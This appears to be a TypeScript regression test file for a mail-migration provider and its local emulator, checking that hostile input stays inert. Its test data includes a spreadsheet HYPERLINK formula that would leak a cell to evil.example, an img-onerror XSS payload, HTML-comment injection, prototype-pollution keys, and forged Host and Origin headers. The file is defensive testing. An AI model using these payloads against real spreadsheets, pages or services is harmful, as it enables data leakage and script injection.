/**
 * Hostile input, the repros as plain regression tests: hostile and odd input is data. Each of these
 * failed before the change (checked once against the old code) and passes after it.
 *  - the pull-request comment (plan-summary and its cost section) keeps every value in its cell;
 *  - the ledger writes no live formula, survives a value with a line break, names a row it
 *    cannot read (file:line) and still renders;
 *  - the emulator: __proto__/constructor/toString are ordinary batch names; loopback Host, own
 *    Origin and JSON for writes; bad percent-encoding 400; a 500 says nothing internal;
 *  - identity: NFC/NFD and zero-width emails, length limits, control characters, a CSV header
 *    naming a column twice;
 *  - odd vendor answers: settings `{}` is "not set" (export, read), an odd answer for one batch
 *    does not abort the export, and an exported tenant deploys with 0 writes.
 */
import * as assert from "assert";
import * as fs from "fs";
import * as http from "http";
import * as os from "os";
import * as path from "path";
import { stringify } from "yaml";
import type { PassEnd } from "../emulator";
import type { Settings } from "../emulator/store";
import { PlanError, loadPlan } from "../provider/plan/load";
import { summarizePreview } from "../cli/plan-summary";
import { appendLedger, readLedger, readLedgerChecked, LedgerRow, Observation } from "../cli/ledger";
import { renderHtml } from "../cli/report";
import { exportPlan } from "../cli/export-plan";
import { emuResetStats, emuState, emuStats } from "./helpers/emu";
import { checked, implementations, offlineContext, providerFixture } from "./helpers/provider";

const KEY = "hostile-key", SECRET = "Hostile-S3cret-1818";
const dyn = (t: string, n: string) => `urn:pulumi:prod::cloudiway-migration::cloudiway:index:MigrationPlan$pulumi-nodejs:dynamic/cloudiway:${t}::${n}`;

/** A raw HTTP request (fetch cannot set Host). */
function raw(url: string, opts: { method?: string; headers?: Record<string, string>; body?: string } = {}): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
        const u = new URL(url);
        const req = http.request({ host: u.hostname, port: u.port, path: u.pathname + u.search, method: opts.method ?? "GET", headers: opts.headers }, (res) => {
            let body = "";
            res.setEncoding("utf8");
            res.on("data", (c: string) => { body += c; });
            res.on("end", () => resolve({ status: res.statusCode ?? 0, body }));
        });
        req.on("error", reject);
        req.end(opts.body);
    });
}

const observation = (over: Partial<Observation> = {}): Observation => ({
    kind: "mail", migrationTag: "0d6c1d0e-5a4e-4a53-9d7f-3f4b7d1e2a11", sourceEmail: "ada@source.example", batch: "Wave 1", status: "SUCCESS",
    passes: 1, mailsTotal: 10, mailsSuccess: 10, mailsFailure: 0, calendarsTotal: 1, calendarsSuccess: 1, calendarsFailure: 0,
    contactsTotal: 2, contactsSuccess: 2, contactsFailure: 0, licensed: true, ...over,
});

describe("hostile and odd input is data (regressions)", function () {
    this.timeout(60_000);
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "cw-hostile-"));
    after(() => fs.rmSync(tmp, { recursive: true, force: true }));

    describe("pull-request comment", () => {
        const preview = {
            steps: [
                // A user removed from the plan that loses 3 passes and its license, in a batch named to hide it.
                {
                    op: "delete", urn: dyn("MailUser", "user:ann@s.example"),
                    oldState: { id: "t-ann", inputs: { sourceEmail: "ann@s.example", targetEmail: "ann@t.example", deletionPolicy: "delete" },
                        outputs: { sourceEmail: "ann@s.example", targetEmail: "ann@t.example", passes: 3, status: "SUCCESS", licenseAssigned: true } },
                },
                {
                    op: "update", urn: dyn("BatchMembership", "membership:bob@s.example"),
                    oldState: { inputs: { batchName: "Wave 1" } }, newState: { inputs: { batchName: "Wave 9\n<!--" } },
                },
                {
                    op: "create", urn: dyn("MigrationRun", "run:Wave 9\n<!--:migrate"),
                    newState: { inputs: { batchName: "Wave 9\n<!--", action: "migrate", trigger: "@org/team <img src=x onerror=alert(1)>" } },
                },
            ],
            diagnostics: [{ severity: "error", message: "plan.yaml:3: bad\n<!-- hidden\n| a | b |" }],
        };

        it('a batch named "Wave 9\\n<!--" hides nothing: the deleted users\' list and everything after it stay on the page', () => {
            const md = summarizePreview(preview, "delete");
            const lines = md.split("\n");
            assert.ok(!lines.some((l) => /^\s*<!--/.test(l)), "no line opens an HTML comment");
            assert.ok(!md.includes("<!--"), "no comment at all");
            assert.ok(md.includes("**Users deleted:**") && /- ann@s\.example -&gt; ann@t\.example: removed from the plan; loses 3 passes, licensed/.test(md), md);
            assert.ok(md.indexOf("### Errors") > md.indexOf("**Users deleted:**"), "the rest follows");
            assert.ok(lines.some((l) => l.startsWith("| bob@s.example | Wave 1 | Wave 9 &lt;\\!--- |") || l.startsWith("| bob@s.example | Wave 1 | Wave 9 &lt;\\!-- |")), md);
        });

        it("@org/team does not ping, <img> does not render, a cell is never split", () => {
            const md = summarizePreview(preview, "delete");
            assert.ok(!/(^|[^A-Za-z0-9_])@org/.test(md), "no @org mention");
            assert.ok(md.includes("@&#8203;org/team"), md);
            assert.ok(!md.includes("<img"), "no img tag");
            const runRow = md.split("\n").find((l) => l.startsWith("| run:Wave 9"))!;
            assert.strictEqual(runRow.split(/(?<!\\)\|/).length - 2, 5, `one row of 5 cells: ${runRow}`);
            const diag = md.split("\n").filter((l) => l.startsWith("- plan.yaml:3"));
            assert.strictEqual(diag.length, 1, "a diagnostic is one list item");
            assert.match(diag[0], /bad &lt;\\!-- hidden \\\| a \\\| b \\\|$/);
        });
    });

    describe("ledger", () => {
        it("a batch or an email that is a formula is written with a leading ' and reads back as it was", () => {
            const file = path.join(tmp, "formula.csv");
            const email = '=HYPERLINK("http://evil.example/?"&A1)@x.io';
            appendLedger(file, [observation({ sourceEmail: email, batch: "=HYPERLINK(\"http://evil.example\")" }), observation({ migrationTag: "t2", batch: "+1", status: "-2", sourceEmail: "@x" })], "2026-11-30T08:00:00.000Z");
            const text = fs.readFileSync(file, "utf8");
            for (const cell of text.split(/[\n,]/)) assert.ok(!/^"?[=+\-@\t\r]/.test(cell), `no cell starts a formula: ${JSON.stringify(cell)}`);
            const rows = readLedger(file);
            assert.deepStrictEqual(rows.map((r) => [r.sourceEmail, r.batch, r.status]),
                [[email, "=HYPERLINK(\"http://evil.example\")", "SUCCESS"], ["@x", "+1", "-2"]]);
        });

        it("a value with a line break does not break the next report", () => {
            const file = path.join(tmp, "newline.csv");
            appendLedger(file, [observation({ batch: "Wave\n2" })], "2026-11-30T08:00:00.000Z");
            appendLedger(file, [observation({ batch: "Wave\n2", status: "ONERROR" })], "2026-11-30T09:00:00.000Z");
            const read = readLedgerChecked(file);
            assert.deepStrictEqual(read.problems, []);
            assert.deepStrictEqual(read.rows.map((r: LedgerRow) => [r.batch, r.status]), [["Wave\n2", "SUCCESS"], ["Wave\n2", "ONERROR"]]);
        });

        it("a row that cannot be read (a time that is not a date) is named as file:line; the rest renders", () => {
            const file = path.join(tmp, "badtime.csv");
            appendLedger(file, [observation()], "2026-11-30T08:00:00.000Z");
            fs.appendFileSync(file, fs.readFileSync(file, "utf8").split("\n")[1].replace("2026-11-30T08:00:00.000Z", "yesterday") + "\n");
            appendLedger(file, [observation({ status: "ONERROR" })], "2026-11-30T10:00:00.000Z");
            const read = readLedgerChecked(file);
            assert.strictEqual(read.problems.length, 1);
            assert.match(read.problems[0], new RegExp(`${file.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}:3: time "yesterday" is not an ISO date and time`));
            assert.strictEqual(read.rows.length, 2);
            const html = renderHtml({ generatedAt: "2026-11-30T10:00:00.000Z", kind: "mail", statuses: [], rows: [], users: [] }, read.rows, read.problems);
            assert.match(html, /<svg id="progress"/);
            assert.match(html, /Ledger rows left out/);
        });
    });

    describe("emulator", () => {
        const fx = providerFixture({ key: KEY, secret: SECRET });

        it("__proto__, constructor and toString are ordinary batch names", async () => {
            for (const name of ["__proto__", "constructor", "toString", "hasOwnProperty"]) await fx.client.createBatch("mail", name);
            assert.deepStrictEqual((await fx.client.listBatches("mail")).sort(), ["__proto__", "constructor", "hasOwnProperty", "toString"]);
            await fx.client.setGlobalSettings("mail", "__proto__", {
                shouldMigrateMails: false, shouldMigrateTrash: true, shouldMigrateCalendars: false, shouldMigrateContacts: false, shouldMigrateTasks: false,
                shouldMigrateNotes: false, shouldMigrateJournals: false, shouldConvertEmailAddresses: false, shouldConvertX500: false, fromDate: "2020-01-02", toDate: null,
            });
            assert.strictEqual(Object.prototype.hasOwnProperty.call(Object.prototype, "settings"), false, "Object.prototype untouched");
            assert.strictEqual((await fx.client.getGlobalSettings("mail", "__proto__")).shouldMigrateTrash, true);
            assert.strictEqual((await fx.client.getGlobalSettings("mail", "constructor")).shouldMigrateTrash, false);
            assert.deepStrictEqual(await fx.client.getUsersInBatch("mail", "constructor"), []);
            await fx.client.deleteBatch("mail", "constructor");
            assert.deepStrictEqual((await fx.client.listBatches("mail")).sort(), ["__proto__", "hasOwnProperty", "toString"]);
            const ss = await raw(`${fx.emu.baseUrl}/selfservice/constructor`);
            assert.strictEqual(ss.status, 404, ss.body);
            const fam = await raw(`${fx.emu.url}/constructor/getall?consumerKey=${KEY}&consumerSecret=${SECRET}`);
            assert.strictEqual(fam.status, 404);
            // JSON.parse keeps "__proto__" as an own key, so it goes on the wire as one.
            const outcomes = await fx.control.setOutcomes(JSON.parse('{"__proto__": "ONERROR", "constructor": "STOP"}') as Record<string, PassEnd>);
            assert.deepStrictEqual(Object.entries(outcomes.mail), [["__proto__", "ONERROR"], ["constructor", "STOP"]]);
        });

        it("a foreign Host, a foreign Origin or a text/plain write is refused; nothing is reset or changed", async () => {
            await fx.client.createBatch("mail", "Keep");
            const reset = `${fx.emu.baseUrl}/_emulator/reset`;
            const host = `127.0.0.1:${fx.emu.port}`;
            const r1 = await raw(reset, { method: "POST", headers: { host: "evil.example", "content-type": "text/plain" }, body: "{}" });
            assert.strictEqual(r1.status, 403, r1.body);
            const r2 = await raw(reset, { method: "POST", headers: { host, "content-type": "text/plain" }, body: "{}" });
            assert.strictEqual(r2.status, 415, r2.body);
            const r3 = await raw(reset, { method: "POST", headers: { host, origin: "http://evil.example", "content-type": "application/json" }, body: "{}" });
            assert.strictEqual(r3.status, 403, r3.body);
            const r4 = await raw(reset, { method: "POST", headers: { host, origin: `http://127.0.0.1:${fx.emu.port + 1}` } });
            assert.strictEqual(r4.status, 403, "another local origin (another dev server) is not the emulator's");
            const api = await raw(`${fx.emu.url}/mailusers/createbatch`, {
                method: "POST", headers: { host, "content-type": "text/plain" }, body: JSON.stringify({ auth: { consumerKey: KEY, consumerSecret: SECRET }, batchName: "X" }),
            });
            assert.strictEqual(api.status, 415);
            const read = await raw(`${fx.emu.url}/mailusers/batch?consumerKey=${KEY}&consumerSecret=${SECRET}`, { headers: { host: "attacker.example:80" } });
            assert.strictEqual(read.status, 403, "the demo credentials cannot be used through a rebound name");
            assert.deepStrictEqual(await fx.client.listBatches("mail"), ["Keep"], "nothing reset, nothing created");
            for (const h of [`localhost:${fx.emu.port}`, `127.0.0.1:${fx.emu.port}`, "[::1]"]) {
                assert.strictEqual((await raw(`${fx.emu.baseUrl}/_emulator/lifecycle`, { headers: { host: h } })).status, 200, h);
            }
        });

        it("the self-service form keeps its own POST from its own page", async () => {
            const { migrationTag } = await fx.client.createUser("mail", {
                firstName: "Zoe", lastName: "S", sourceEmail: "zoe@source.example", targetEmail: "zoe@target.example",
                sourceConnectorName: "Zimbra Self Service", targetConnectorName: "Office 365",
            });
            const page = `${fx.emu.baseUrl}/selfservice/admin/mail/${migrationTag}`;
            const ok = await raw(page, {
                method: "POST", headers: { host: `127.0.0.1:${fx.emu.port}`, origin: fx.emu.baseUrl, "content-type": "application/x-www-form-urlencoded" },
                body: new URLSearchParams({ username: "zoe@source.example", password: "pw:zoe@source.example" }).toString(),
            });
            assert.strictEqual(ok.status, 200, ok.body);
            const foreign = await raw(page, {
                method: "POST", headers: { host: `127.0.0.1:${fx.emu.port}`, origin: "https://evil.example", "content-type": "application/x-www-form-urlencoded" },
                body: "username=a&password=b",
            });
            assert.strictEqual(foreign.status, 403);
        });

        it("bad percent-encoding answers 400; an internal error answers 500 without its message", async () => {
            for (const p of [`/mailusers/%E0%A4%A/status`, `/mailusers/batch?consumerKey=${KEY}&consumerSecret=${SECRET}&x=%ZZ`]) {
                const r = await raw(`${fx.emu.url}${p}`);
                assert.strictEqual(r.status, 400, `${p}: ${r.body}`);
            }
            assert.strictEqual((await raw(`${fx.emu.baseUrl}/selfservice/%E0%A4%A`)).status, 400);
            const store = fx.emu.store;
            const original = store.batchNames;
            store.batchNames = () => { throw new Error("internal detail /var/lib/secret-path"); };
            try {
                const r = await raw(`${fx.emu.url}/mailusers/batch?consumerKey=${KEY}&consumerSecret=${SECRET}`);
                assert.strictEqual(r.status, 500);
                assert.ok(!r.body.includes("secret-path") && !r.body.includes("internal detail"), r.body);
            } finally {
                store.batchNames = original;
            }
        });

        describe("odd answers and adoption", () => {
            /** The settings answer of a batch whose settings were never set, as the real service gave it: {}. */
            function neverSet(names: string[]) {
                const original = fx.emu.store.getSettings.bind(fx.emu.store);
                fx.emu.store.getSettings = (f, name) => (names.includes(name) ? ({} as Settings) : original(f, name));
                return () => { fx.emu.store.getSettings = original; };
            }
            async function tenant() {
                await fx.client.createBatch("mail", "Set");
                await fx.client.createBatch("mail", "Never Set");
                await fx.client.setGlobalSettings("mail", "Set", {
                    shouldMigrateMails: true, shouldMigrateTrash: true, shouldMigrateCalendars: false, shouldMigrateContacts: true, shouldMigrateTasks: false,
                    shouldMigrateNotes: true, shouldMigrateJournals: false, shouldConvertEmailAddresses: true, shouldConvertX500: false, fromDate: "2019-05-01", toDate: null,
                });
                for (const [i, b] of [[0, "Set"], [1, "Never Set"], [2, undefined]] as const) {
                    const { migrationTag } = await fx.client.createUser("mail", {
                        firstName: `Zoë${i}`, lastName: "User", sourceEmail: `u${i}@s.example`, targetEmail: `u${i}@t.example`, sourceConnectorName: "Gmail", targetConnectorName: "Office 365",
                    });
                    if (b) await fx.client.addToBatch("mail", migrationTag, b);
                    if (i === 0) await fx.client.assignLicense("mail", migrationTag);
                }
            }

            it("settings never set ({}): export-plan writes that batch without settings, and the whole export completes", async () => {
                await tenant();
                const restore = neverSet(["Never Set"]);
                try {
                    const s = await fx.client.getGlobalSettings("mail", "Never Set");
                    assert.strictEqual(s.shouldMigrateMails, undefined, "missing means not set");
                    const { plan, users, batches, warnings } = await exportPlan(fx.client, "mail");
                    assert.deepStrictEqual([users, batches, warnings], [3, 2, []]);
                    const list = plan.batches as { name: string; settings?: Record<string, unknown>; users: unknown[] }[];
                    assert.deepStrictEqual(list.map((b) => [b.name, b.settings === undefined, b.users.length]), [["Set", false, 1], ["Never Set", true, 1]]);
                } finally {
                    restore();
                }
            });

            it("an odd settings answer for one batch is named in a warning; the export goes on", async () => {
                await tenant();
                const original = fx.emu.store.getSettings.bind(fx.emu.store);
                fx.emu.store.getSettings = (f, name) => (name === "Set" ? ({ ...original(f, name), fromDate: "the 5th of May" } as Settings) : original(f, name));
                try {
                    const { plan, warnings } = await exportPlan(fx.client, "mail");
                    assert.strictEqual(warnings.length, 1);
                    assert.match(warnings[0], /batch "Set": .*unexpected answer.*; exported without settings/);
                    assert.strictEqual((plan.batches as unknown[]).length, 2);
                } finally {
                    fx.emu.store.getSettings = original;
                }
            });

            it("a BatchGlobalSettings read of settings never set reports drift instead of failing", async () => {
                await fx.client.createBatch("mail", "Never Set");
                const ctx = fx.context();
                const settings = implementations.BatchGlobalSettings;
                ctx.cache.clear();
                const declared = checked(await settings.check(ctx, undefined, { batchName: "Never Set", shouldMigrateTrash: true }));
                const restore = neverSet(["Never Set"]);
                try {
                    const r = await settings.read(ctx, "Never Set", declared);
                    assert.strictEqual(r.id, "Never Set");
                    assert.strictEqual(r.inputs!.shouldMigrateTrash, undefined);
                    const d = await settings.diff(ctx, "Never Set", r.props!, declared);
                    assert.strictEqual(d.changes, true, "drift: the declared settings are not set");
                } finally {
                    restore();
                }
            });

            it("deploying an exported tenant makes 0 writes (settings equal, memberships and licenses in place)", async () => {
                await tenant();
                const restore = neverSet(["Never Set"]);
                try {
                    const { plan } = await exportPlan(fx.client, "mail");
                    const file = path.join(tmp, "tenant.yaml");
                    fs.writeFileSync(file, stringify(plan));
                    const loaded = loadPlan(file);
                    assert.strictEqual(loaded.adoptExisting, true);
                    const ctx = fx.context();
                    ctx.cache.clear(); // the provider process's cache: this test's tenant is new
                    const before = JSON.stringify((await emuState(fx.emu.baseUrl)).mail);
                    await emuResetStats(fx.emu.baseUrl);
                    // What MigrationPlan registers, through check and create as the engine calls them.
                    const I = implementations;
                    const adopt = { adopt: true, kind: loaded.kind };
                    for (const b of loaded.batches) {
                        await I.MailBatch.create(ctx, checked(await I.MailBatch.check(ctx, undefined, { name: b.name, ...adopt })));
                        if (b.settings) await I.BatchGlobalSettings.create(ctx, checked(await I.BatchGlobalSettings.check(ctx, undefined, { ...b.settings, batchName: b.name, ...adopt })));
                    }
                    for (const u of loaded.users) {
                        const { batch, runs, where, ...fields } = u;
                        void runs; void where;
                        const made = await I.MailUser.create(ctx, checked(await I.MailUser.check(ctx, undefined, { ...fields, ...adopt })));
                        if (batch) await I.BatchMembership.create(ctx, checked(await I.BatchMembership.check(ctx, undefined, { migrationTag: made.id, batchName: batch, ...adopt })));
                    }
                    const stats = await emuStats(fx.emu.baseUrl);
                    assert.strictEqual(stats.mutating, 0, `0 writes: ${JSON.stringify(stats.byCall)}`);
                    assert.strictEqual(JSON.stringify((await emuState(fx.emu.baseUrl)).mail), before);
                } finally {
                    restore();
                }
            });
        });
    });

    describe("identity and free text at the boundary", () => {
        const write = (name: string, text: string) => { const f = path.join(tmp, name); fs.writeFileSync(f, text); return f; };
        const problems = (file: string) => {
            try { loadPlan(file); } catch (e) { if (e instanceof PlanError) return e.problems; throw e; }
            return [];
        };
        const head = "defaults: { sourceConnectorName: Gmail, targetConnectorName: Office 365 }\n";

        it("NFC and NFD zoë@… are one mailbox: the second is a duplicate", () => {
            const nfc = "zo\u00eb@s.example", nfd = "zoe\u0308@s.example";
            const f = write("nfc.yaml", `${head}users:\n  - { firstName: Z, lastName: A, sourceEmail: "${nfc}", targetEmail: z1@t.example }\n  - { firstName: Z, lastName: B, sourceEmail: "${nfd}", targetEmail: z2@t.example }\n`);
            const ps = problems(f);
            assert.strictEqual(ps.length, 1, ps.join("\n"));
            assert.match(ps[0], /nfc\.yaml:4: duplicate user zoë@s\.example \(first declared at .*nfc\.yaml:3\)/);
        });

        it("a zero-width space in an email is refused (file:line, and MailUser.sourceEmail)", async () => {
            const f = write("zw.yaml", `${head}users:\n  - { firstName: Z, lastName: A, sourceEmail: "zo\u200be@s.example", targetEmail: z@t.example }\n`);
            assert.match(problems(f).join("\n"), /zw\.yaml:3: sourceEmail must not contain invisible characters .*U\+200B/);
            const ctx = offlineContext();
            const r = await implementations.MailUser.check(ctx, undefined, {
                firstName: "Z", lastName: "A", sourceEmail: "zo\u200be@s.example", targetEmail: "z@t.example", sourceConnectorName: "Gmail", targetConnectorName: "Office 365",
            });
            assert.deepStrictEqual(r.failures.map((x) => x.property), ["sourceEmail"]);
            assert.match(r.failures[0].reason, /^MailUser\.sourceEmail: must not contain invisible characters/);
        });

        it("control characters and over-long values are refused at check, naming Resource.property", async () => {
            const ctx = offlineContext();
            const user = { firstName: "Ada", lastName: "L", sourceEmail: "ada@s.example", targetEmail: "ada@t.example", sourceConnectorName: "Gmail", targetConnectorName: "Office 365" };
            const cases: [keyof typeof implementations, Record<string, unknown>, string, RegExp][] = [
                ["MailBatch", { name: "Wave 9\n<!--" }, "name", /^MailBatch\.name: must not contain control characters .*U\+000A at character 7/],
                ["MailUser", { ...user, firstName: "A\u0000da" }, "firstName", /^MailUser\.firstName: must not contain control characters/],
                ["MailUser", { ...user, lastName: "L".repeat(65) }, "lastName", /^MailUser\.lastName: must be at most 64 characters \(got 65\)/],
                ["MailUser", { ...user, sourceConnectorName: "Gmail\r\n" }, "sourceConnectorName", /^MailUser\.sourceConnectorName: must not contain control characters/],
                ["MailUser", { ...user, targetConnectorName: "O".repeat(257) }, "targetConnectorName", /^MailUser\.targetConnectorName: must be at most 256 characters/],
                ["MigrationRun", { batchName: "W", action: "migrate", trigger: "1\u2028<!--" }, "trigger", /^MigrationRun\.trigger: must not contain control characters .*U\+2028/],
                ["MigrationRun", { batchName: "W", action: "migrate", trigger: "t".repeat(300) }, "trigger", /^MigrationRun\.trigger: must be at most 256 characters/],
                ["BatchMembership", { migrationTag: "0d6c1d0e-5a4e-4a53-9d7f-3f4b7d1e2a11", batchName: "W\t1" }, "batchName", /^BatchMembership\.batchName: must not contain control characters/],
                ["BatchGlobalSettings", { batchName: "W\u00851" }, "batchName", /^BatchGlobalSettings\.batchName: must not contain control characters .*U\+0085/],
                ["MailBatch", { name: "Wave \u202e2 evaW" }, "name", /^MailBatch\.name: must not contain bidirectional control characters .*U\+202E at character 6/],
                ["MailUser", { ...user, lastName: "L\u2067x" }, "lastName", /^MailUser\.lastName: must not contain bidirectional control characters .*U\+2067/],
            ];
            for (const [type, news, prop, re] of cases) {
                const r = await implementations[type].check(ctx, undefined, news);
                assert.deepStrictEqual(r.failures.map((x) => x.property), [prop], `${type} ${JSON.stringify(news).slice(0, 80)}`);
                assert.match(r.failures[0].reason, re);
            }
        });

        it("the plan loader refuses them as file:line, with the limits", () => {
            const f = write("text.yaml", [
                head.trimEnd(),
                "batches:",
                '  - name: "Wave 9\\n<!--"',
                '    runs: [{ action: migrate, trigger: "go\\tnow" }]',
                "users:",
                `  - { firstName: "${"F".repeat(65)}", lastName: "A", sourceEmail: a@s.example, targetEmail: a@t.example, sourceConnectorName: "Gm\\u0007ail" }`,
                "",
            ].join("\n"));
            const ps = problems(f).join("\n");
            assert.match(ps, /text\.yaml:3: name must not contain control characters .*U\+000A/);
            assert.match(ps, /text\.yaml:4: trigger must not contain control characters .*U\+0009/);
            assert.match(ps, /text\.yaml:6: firstName must be at most 64 characters \(got 65\)/);
            assert.match(ps, /text\.yaml:6: sourceConnectorName must not contain control characters .*U\+0007/);
            const bidi = write("bidi.yaml", [head.trimEnd(), "batches:", '  - name: "Wave \\u202e1"', ""].join("\n"));
            assert.match(problems(bidi).join("\n"), /bidi\.yaml:3: name must not contain bidirectional control characters .*U\+202E/);
        });

        it("a CSV header that names a column twice is an error; a CSV cell with a control character is refused", () => {
            const dup = write("dup.csv", "FirstName,LastName,SourceEmail,TargetEmail,SourceEmail\nAda,L,ada@s.example,ada@t.example,evil@s.example\n");
            assert.match(problems(dup).join("\n"), /dup\.csv:1: the header names column "SourceEmail" twice \(columns 3 and 5\)/);
            const ctl = write("ctl.csv", 'FirstName,LastName,SourceEmail,TargetEmail,BatchName\n"A\nda",L,ada@s.example,ada@t.example,"W\u001b1"\n');
            const ps = problems(ctl).join("\n");
            assert.match(ps, /ctl\.csv:2: firstName must not contain control characters/);
            assert.match(ps, /ctl\.csv:2: BatchName must not contain control characters .*U\+001B/);
        });
    });
});
